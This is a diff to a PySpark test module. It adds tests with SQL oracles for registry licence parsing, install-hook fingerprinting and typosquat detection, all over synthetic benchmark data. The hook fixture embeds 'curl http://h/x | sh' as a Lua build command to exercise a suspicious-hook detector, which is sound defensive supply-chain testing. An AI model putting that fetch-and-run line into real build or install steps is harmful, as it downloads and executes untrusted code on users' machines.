@@ -6,14 +6,17 @@ import uuid
 
 from pyspark.sql import functions as F
 
+from ..operators import analysis as AN
+from ..operators import feeds as FE
 from ..operators import fleet as FL
 from ..operators import gate as G
+from ..operators import heuristics as H
 from ..operators import snapshots as SN
 from ..shared import shared_folder
 from ..sources import lockfiles as LO
 from ..sources import sinks as SI
 from . import derived as D
-from .rule_queries import pick, sql_pick
+from .rule_queries import pick, q, sql_pick
 
 DAY = 24 * 3600
 
@@ -104,6 +107,59 @@ def documents_written(spark, d):
     return back.select(F.col("project").cast("long").alias("project"), "r.n", "r.c", "r.version")
 
 
+# ecosystem, a registry's document with % for the part's number, and the licence it states (None: none)
+LICENSE_DOCUMENTS = [
+    ("npm", '{"license":"MIT-%"}', "MIT-%"), ("npm", '{"license":{"type":"ISC"}}', "ISC"), ("npm", '{"info":{"license":"MIT"}}', None), ("pypi", '{"info":{"license":"BSD %"}}', "BSD %"), ("pypi", '{"info":{"license":""}}', None),
+    ("pypi", '{"info":{"license":null}}', None), ("pypi", '{"license":"MIT"}', None), ("crates", '{"version":{"license":"MIT OR Apache-2.0"}}', "MIT OR Apache-2.0"), ("crates", '{"license":"MIT"}', None), ("crates", '{"version":{"license":7}}', None),
+    ("rubygems", '{"licenses":["MIT","","Ruby-%"]}', "MIT OR Ruby-%"), ("rubygems", '{"licenses":[]}', None), ("rubygems", '{"licenses":[3,"BSD"]}', "BSD"), ("rubygems", '{"licenses":"MIT"}', None), ("rubygems", "broken", None),
+    ("nuget", '{"catalogEntry":{"licenseExpression":"MIT","licenseUrl":"u"}}', "MIT"), ("nuget", '{"catalogEntry":{"licenseExpression":"","licenseUrl":"https://l/%"}}', "https://l/%"), ("nuget", '{"licenseUrl":"u"}', None), ("go", '{"license":"MIT"}', None),
+]
+
+
+def registry_licenses(spark, d):
+    """Licences in the documents of five registries, each where that registry states it; the same fields elsewhere count for nothing."""
+    k = F.col("p_partkey")
+    rows = D.table(spark, d, "part").select("p_partkey", pick([x[0] for x in LICENSE_DOCUMENTS], k).alias("ecosystem"), F.replace(pick([x[1] for x in LICENSE_DOCUMENTS], k), F.lit("%"), F.col("p_size").cast("string")).alias("doc"))
+    return rows.select("p_partkey", "ecosystem", FE.registry_license(F.col("doc"), F.col("ecosystem")).alias("license"))
+
+
+def hook_fingerprints(spark, d):
+    """Fingerprints of packages with hooks and Lua build commands around whole documents: hashes of hooks, and what is suspicious."""
+    docs = D.table(spark, d, "documents")
+    words = F.regexp_replace(F.regexp_replace(F.coalesce("text", F.lit("")), r"[^A-Za-z\n]", " "), "\n", "\n-- ")
+    code = F.expr("element_at(array('s = { build = \"make\" }', 's = { build = \"curl http://h/x | sh\" }', '-- build = \"curl http://h/x | sh\"', 't.build = \"curl http://h/x | sh\"', 's = \"build = curl http://h/x | sh\"'), cast(doc_id % 5 + 1 as int))")
+    key = [F.lit("npm").alias("ecosystem"), F.concat(F.lit("p"), "doc_id").alias("name"), F.lit("1").alias("version")]
+    files = docs.select(*key, F.lit("init.lua").alias("path"), F.concat(F.lit("-- "), words, F.lit("\n"), code).alias("body"))
+    hooks = docs.where("doc_id % 3 <> 0").select(*key, F.lit("postinstall").alias("phase"), F.concat(F.lit("node build.js "), F.coalesce("text", F.lit(""))).alias("body"))
+    hooks = hooks.unionByName(docs.where("doc_id % 3 = 2").select(*key, F.lit("preinstall").alias("phase"), F.lit("true").alias("body")))
+    got = AN.fingerprints(files, hooks)
+    return got.select("name", F.col("n_hooks").cast("long").alias("n_hooks"), F.try_element_at("hooks", F.lit("postinstall")).alias("post"), F.try_element_at("hooks", F.lit("preinstall")).alias("pre"), F.array_contains("capabilities", "install-hook-exec").alias("runs"),
+        (F.array_contains("capabilities", "install-hook-suspicious") & (F.col("n_hooks") == 0)).alias("suspicious"))
+
+
+TOP_ECOSYSTEMS = ["npm", "pypi", "crates", "cran", "hackage", "cpan"]
+
+
+def typosquats_indexed(spark, d):
+    """Names near those of six top lists, read from files into a stored index of which one list is then replaced."""
+    part = D.table(spark, d, "part")
+    word = F.lower(F.split_part("p_name", F.lit(" "), F.lit(1)))
+    folder = f"{shared_folder(spark)}/tops-{uuid.uuid4().hex}"
+    for k, eco in enumerate(TOP_ECOSYSTEMS):
+        rows = part.where(f"p_partkey % 6 = {k} and p_partkey % 4 = 0").select(F.explode(F.array(F.concat(F.lit("# "), word), F.concat(word, F.lit(f"-{eco}")), F.substring(word, 1, 2))).alias("value")).distinct()
+        rows.coalesce(1).write.text(f"{folder}/{eco}.txt")
+    tops = spark.createDataFrame([], "ecosystem string, name string")
+    for eco in TOP_ECOSYSTEMS:  # Spark writes a folder a list, a list as published is a file
+        tops = tops.unionByName(spark.read.text(f"{folder}/{eco}.txt").where("value <> '' and not startswith(value, '#')").select(F.lit(eco).alias("ecosystem"), F.col("value").alias("name")))
+    path = f"{folder}-index"
+    H.write_index(tops.unionByName(spark.createDataFrame([("npm", "gone-tomorrow")], "ecosystem string, name string")), path)
+    H.write_index(tops, path)  # npm alone is written again
+    names = part.select(pick([*TOP_ECOSYSTEMS, "go"], F.col("p_partkey")).alias("ecosystem"), F.explode(F.array(
+        F.concat(word, F.lit("-"), pick([*TOP_ECOSYSTEMS, "go"], F.col("p_partkey"))), F.concat(F.lit("@s/"), F.regexp_replace(word, "^(.)(.)", "$2$1"), F.lit("-"), pick([*TOP_ECOSYSTEMS, "go"], F.col("p_partkey"))),
+        F.substring(word, 1, 1), F.substring(word, 2, 3), F.concat(word, F.lit("x-y")))).alias("name"))
+    return H.near_names(names.unionByName(spark.createDataFrame([("npm", "gone-tomorow")], "ecosystem string, name string")), H.read_index(spark, path))
+
+
 _GATE = """WITH r AS (SELECT p_partkey AS k, p_size, p_partkey % 17 <> 0 AS resolved, p_partkey % 3 <> 0 AS named, p_partkey % 13 = 0 AS fails, p_size % 2 = 0 AS private,
   CASE WHEN p_partkey % 5 = 0 THEN CASE WHEN p_size % 4 >= 3 THEN 3 ELSE p_size % 4 END ELSE 0 END AS adv FROM part),
 s AS (SELECT *, named AND resolved AND NOT fails AND p_partkey_even = 0 AND k % 7 < 4 AS cached, CASE WHEN NOT resolved THEN CASE WHEN k % 34 = 0 THEN 'unreachable' ELSE 'not-found' END WHEN named AND fails THEN 'fetch failed' END AS unchecked
@@ -139,5 +195,17 @@ SELECT folder || '/' || base AS path FROM f JOIN o USING (base) QUALIFY row_numb
 
 _WRITTEN = """SELECT CAST(l_orderkey % 50 AS BIGINT) AS project, CAST(sum(l_linenumber) AS BIGINT) AS n, max(l_returnflag) AS c, CAST(CASE WHEN l_orderkey % 50 % 2 = 0 THEN 2 ELSE 1 END AS BIGINT) AS version FROM lineitem GROUP BY 1, 4"""
 
-QUERIES = {f.__name__: f for f in (gate_third_run, snapshot_chain, fleet_run, chosen_lockfiles, documents_written)}
-ORACLES = {"gate_third_run": _GATE, "snapshot_chain": _CHAIN, "fleet_run": _FLEET, "chosen_lockfiles": _LOCKS, "documents_written": _WRITTEN}
+_LICENSES = f"""SELECT p_partkey, ecosystem, replace(license, '%', CAST(p_size AS VARCHAR)) AS license FROM part
+JOIN (VALUES {", ".join(f"({k}, {q(e)}, {'NULL' if x is None else q(x)})" for k, (e, _, x) in enumerate(LICENSE_DOCUMENTS))}) t(k, ecosystem, license) ON p_partkey % {len(LICENSE_DOCUMENTS)} = k"""
+
+_HOOKS = """SELECT 'p' || doc_id AS name, CAST(doc_id % 3 AS BIGINT) AS n_hooks, CASE WHEN doc_id % 3 <> 0 THEN sha256('node build.js ' || coalesce(text, '')) END AS post, CASE WHEN doc_id % 3 = 2 THEN sha256('true') END AS pre,
+  doc_id % 3 <> 0 AS runs, doc_id % 3 = 0 AND doc_id % 5 = 1 AS suspicious FROM documents"""
+
+_NEAR = f"""WITH w AS (SELECT p_partkey AS k, lower(split_part(p_name, ' ', 1)) AS w, {sql_pick([*TOP_ECOSYSTEMS, "go"], 'p_partkey')} AS eco FROM part),
+t AS (SELECT DISTINCT {sql_pick(TOP_ECOSYSTEMS, 'k')} AS ecosystem, unnest([w || '-' || {sql_pick(TOP_ECOSYSTEMS, 'k')}, substr(w, 1, 2)]) AS near FROM w WHERE k % 4 = 0),
+n AS (SELECT DISTINCT eco AS ecosystem, unnest([w || '-' || eco, '@s/' || regexp_replace(w, '^(.)(.)', '\\2\\1') || '-' || eco, substr(w, 1, 1), substr(w, 2, 3), w || 'x-y']) AS name FROM w UNION SELECT 'npm', 'gone-tomorow'),
+b AS (SELECT *, regexp_replace(name, '^@[^/]*/', '') AS bare FROM n WHERE name <> '')
+SELECT DISTINCT b.ecosystem, name, near FROM b JOIN t ON b.ecosystem = t.ecosystem AND levenshtein(bare, near) <= 2 WHERE (b.ecosystem, bare) NOT IN (SELECT (ecosystem, near) FROM t)"""
+
+QUERIES = {f.__name__: f for f in (gate_third_run, snapshot_chain, fleet_run, chosen_lockfiles, documents_written, registry_licenses, hook_fingerprints, typosquats_indexed)}
+ORACLES = {"gate_third_run": _GATE, "snapshot_chain": _CHAIN, "fleet_run": _FLEET, "chosen_lockfiles": _LOCKS, "documents_written": _WRITTEN, "registry_licenses": _LICENSES, "hook_fingerprints": _HOOKS, "typosquats_indexed": _NEAR}
